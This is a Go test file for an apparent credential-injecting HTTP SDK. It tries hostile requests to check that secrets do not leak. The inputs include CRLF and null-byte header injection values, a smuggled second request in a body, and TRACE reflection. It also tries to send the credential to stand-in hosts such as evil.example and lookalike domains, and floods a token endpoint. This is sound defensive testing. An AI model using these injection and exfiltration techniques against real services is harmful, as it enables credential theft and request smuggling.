// SPDX-License-Identifier: Apache-2.0

package hostile_test

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/credhost/credhost/internal/hostile"
	"github.com/credhost/credhost/sdk"
)

func TestCallers(t *testing.T) {
	try(t, hostile.Caller, requests, destinations, eavesdroppers, tenants, answerers, spenders)
}

// mine is what a caller puts in the place of the secret.
const mine = "EXAMPLE-of-the-callers-own"

// requested has a caller send a request of their making with a credential, and
// reports whether they won. The service's handler repeats what it gets.
func requested(says, place string, change func(w *world, r *http.Request), won func(w *world, body string) bool) attempt {
	return attempt{says: says, run: func(w *world) (bool, error) {
		w.serve(api, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			io.Copy(io.Discard, r.Body)
			fmt.Fprint(rw, r.Method, r.Header, r.Trailer)
		}))
		r, err := http.NewRequestWithContext(w.ctx, http.MethodGet, api+"/things", nil)
		if err != nil {
			return false, err
		}
		id := w.create("key", sdk.Values{"place": place})
		change(w, r)
		_, body, err := w.do(id, r)
		return won(w, body), err
	}}
}

// reaches reports whether the service has got text.
func reaches(text string) func(*world, string) bool {
	return func(w *world, _ string) bool { return w.got(api, text) }
}

// brings reports whether the answer has the secret.
func brings(_ *world, body string) bool { return strings.Contains(body, canary) }

// setting sets a header of the caller's own, by that very name.
func setting(name, value string) func(*world, *http.Request) {
	return func(_ *world, r *http.Request) { r.Header[name] = []string{value} }
}

// replaced is a header, cookie or parameter of the caller's that the grant's
// replaces. Where it is allowed, it has another name, which nobody replaces.
func replaced(place string, change func(r *http.Request, easy bool)) attempt {
	return requested("", place, func(w *world, r *http.Request) { change(r, w.easy) }, reaches(mine))
}

var requests = attempts{
	"a method that repeats":                   requested("must not be TRACE", "", func(_ *world, r *http.Request) { r.Method = http.MethodTrace }, brings),
	"a method that repeats, in small letters": requested("must not be TRACK", "", func(_ *world, r *http.Request) { r.Method = "track" }, brings),
	"a header with a line break":              authenticated("a value that HTTP does not allow", setting("X-Note", "a\r\nX-Admin: yes")),
	"a header with a zero byte":               authenticated("a value that HTTP does not allow", setting("X-Note", "a\x00b")),
	"a header's name with a line break":       authenticated("a name that HTTP does not allow", setting("X-Note\r\nX-Admin", "yes")),
	"the grant's header in small letters":     requested("", "", setting("x-api-key", mine), reaches(mine)),
	"the grant's header with underscores":     requested("", "", setting("X_Api_Key", mine), reaches(mine)),
	"the grant's own header": replaced("", func(r *http.Request, easy bool) {
		r.Header.Set(map[bool]string{true: "X-Another-Key", false: "X-Api-Key"}[easy], mine)
	}),
	"an Authorization beside the grant's": replaced("bearer", func(r *http.Request, easy bool) {
		r.Header.Set(map[bool]string{true: "X-Authorization", false: "Authorization"}[easy], "Bearer "+mine)
	}),
	"a cookie of the grant's name": replaced("cookie", func(r *http.Request, easy bool) {
		r.Header.Set("Cookie", map[bool]string{true: "lang=", false: "session="}[easy]+mine)
	}),
	"a parameter of the grant's name": replaced("query", func(r *http.Request, easy bool) {
		r.URL.RawQuery = map[bool]string{true: "lang=", false: "%6bey="}[easy] + mine
	}),
	"a header that a proxy takes off": requested("names another header", "", setting("Connection", "X-Api-Key"), reaches("Connection:[X-Api-Key]")),
	"an upgrade":                      requested("wants to upgrade the connection", "", setting("Upgrade", "h2c"), reaches("Upgrade:[h2c]")),
	"a proxy for programs behind it":  requested("has a header Proxy", "", setting("Proxy", evil), reaches("Proxy:["+evil)),
	"trailers": requested("has trailers", "", func(_ *world, r *http.Request) {
		r.Method, r.Body, r.ContentLength = http.MethodPost, io.NopCloser(strings.NewReader("x")), -1
		r.Trailer = http.Header{"X-Admin": {mine}}
	}, func(_ *world, body string) bool { return strings.Contains(body, mine) }),
	"a second request in a body": requested("a transfer encoding other than chunked", "", func(_ *world, r *http.Request) {
		r.Method, r.ContentLength, r.TransferEncoding = http.MethodPost, -1, []string{"identity"}
		r.Body = io.NopCloser(strings.NewReader("GET /smuggled HTTP/1.1\r\nHost: api.good.example\r\n\r\n"))
	}, func(w *world, _ string) bool { // which comes after the answer
		for n := 0; w.easy && n < 200 && !w.got(api, "/smuggled"); n++ {
			time.Sleep(10 * time.Millisecond)
		}
		return w.got(api, "/smuggled")
	}),
	"a user in the address": requested("names a user", "", func(_ *world, r *http.Request) { r.URL.User = url.UserPassword("admin", mine) }, reaches("Basic ")),
	"an opaque address":     requested("has an opaque part", "", func(_ *world, r *http.Request) { r.URL.Opaque = "//evil.example/gather" }, reaches("evil.example/gather")),
	"a query that ends the line": {
		says: "a control character",
		run: func(w *world) (bool, error) {
			lines := make(chan string, 1)
			w.listen(api, func(conn net.Conn) {
				line, err := bufio.NewReader(conn).ReadString('\n')
				if err == nil {
					lines <- line
				}
			})
			r, err := http.NewRequestWithContext(w.ctx, http.MethodGet, api+"/things", nil)
			if err != nil {
				return false, err
			}
			r.URL.RawQuery = "x HTTP/1.0"
			_, _, err = w.do(w.create("key", nil), r)
			select {
			case line := <-lines:
				return strings.Contains(line, "HTTP/1.0 HTTP/1.1"), err
			default:
				return false, err
			}
		},
	},
}

// authenticated reports whether a request that is not one is authenticated, for
// the caller to send by means that let it pass.
func authenticated(says string, change func(w *world, r *http.Request)) attempt {
	return attempt{says: says, run: func(w *world) (bool, error) {
		r, err := http.NewRequestWithContext(w.ctx, http.MethodGet, api+"/things", nil)
		if err != nil {
			return false, err
		}
		change(w, r)
		err = w.acme().Authenticate(w.ctx, w.create("key", nil), r)
		return err == nil, err
	}}
}

// sentTo reports whether a caller can send the secret to an address.
func sentTo(to string) attempt {
	origin := sdk.Origin(to)
	return attempt{says: "the credential is not for " + origin, run: func(w *world) (bool, error) {
		if origin != evil {
			w.serve(origin, http.NotFoundHandler())
		}
		_, _, err := w.get(w.create("key", nil), to+"/gather")
		return w.got(origin, canary), err
	}}
}

var destinations = attempts{
	"another origin":             sentTo(evil),
	"another port":               sentTo("https://api.good.example:444"),
	"a name below":               sentTo("https://api.good.example.evil.example"),
	"the same name without TLS":  sentTo("http://api.good.example"),
	"a name that looks the same": sentTo("https://xn--pi-7kc.good.example"),
	"another host by its header": requested("Host is not that of its URL", "", func(_ *world, r *http.Request) { r.Host = "evil.example" }, reaches("evil.example")),
}

var eavesdroppers = attempts{
	"a trace of the connection": func() attempt {
		return attempt{run: func(w *world) (bool, error) {
			w.serve(api, http.NotFoundHandler())
			var mu sync.Mutex
			seen := ""
			ctx := httptrace.WithClientTrace(w.ctx, &httptrace.ClientTrace{WroteHeaderField: func(_ string, values []string) {
				mu.Lock()
				defer mu.Unlock()
				seen += fmt.Sprint(values)
			}})
			r, err := http.NewRequestWithContext(ctx, http.MethodGet, api+"/things", nil)
			if err != nil {
				return false, err
			}
			_, _, err = w.do(w.create("key", nil), r)
			mu.Lock()
			defer mu.Unlock()
			return strings.Contains(seen, canary), err
		}}
	}(),
	"the request that an answer carries": {
		run: func(w *world) (bool, error) {
			w.serve(api, http.NotFoundHandler())
			resp, _, err := w.get(w.create("key", nil), api+"/things")
			return err == nil && resp.Request.Header.Get("X-Api-Key") == canary, err
		},
	},
	"a wrapper around the client": {
		run: func(w *world) (bool, error) {
			w.serve(api, http.NotFoundHandler())
			id, seen := w.create("key", nil), false
			client := w.acme().Client(id)
			inner := client.Transport
			client.Transport = roundTripper(func(r *http.Request) (*http.Response, error) {
				if w.easy {
					w.acme().Authenticate(w.ctx, id, r)
				}
				resp, err := inner.RoundTrip(r)
				seen = strings.Contains(fmt.Sprint(r.Header, r.URL), canary)
				return resp, err
			})
			r, err := http.NewRequestWithContext(w.ctx, http.MethodGet, api+"/things", nil)
			if err != nil {
				return false, err
			}
			resp, err := client.Do(r)
			if err == nil {
				resp.Body.Close()
			}
			return seen, err
		},
	},
}

type roundTripper func(*http.Request) (*http.Response, error)

// RoundTrip implements [http.RoundTripper].
func (f roundTripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// spenders are the attempts to exhaust a host.
var spenders = attempts{
	"a thousand requests at once": {
		run: func(w *world) (bool, error) {
			w.serve(api, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/token" {
					rw.Header().Set("Content-Type", "application/json")
					fmt.Fprint(rw, token("t", 3600))
				}
			}))
			id := w.create("client", nil)
			var all sync.WaitGroup
			errs := make([]error, 1000)
			for n := range errs {
				own := id
				if w.easy && n < 4 {
					own = w.create("client", nil)
				}
				all.Go(func() { _, _, errs[n] = w.get(own, api+"/things") })
			}
			all.Wait()
			tokens := slices.DeleteFunc(w.arrivals(api), func(a arrival) bool { return !strings.Contains(a.line, "/token") })
			return len(tokens) > 1, errors.Join(errs...)
		},
	},
	"a body without end that must be signed": {
		says: "must digest it before it is sent",
		run: func(w *world) (bool, error) {
			if w.easy {
				w.change = wideSpool
			}
			w.serve(api, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
			body := &counter{left: much}
			r, err := http.NewRequestWithContext(w.ctx, http.MethodPost, api+"/things", body)
			if err != nil {
				return false, err
			}
			_, _, err = w.do(w.create("signed", nil), r)
			return body.left <= 0, err
		},
	},
}

// A counter is a body of so many bytes.
type counter struct{ left int }

// Read implements [io.Reader].
func (c *counter) Read(p []byte) (int, error) {
	if c.left <= 0 {
		return 0, io.EOF
	}
	c.left -= len(p)
	return len(p), nil
}
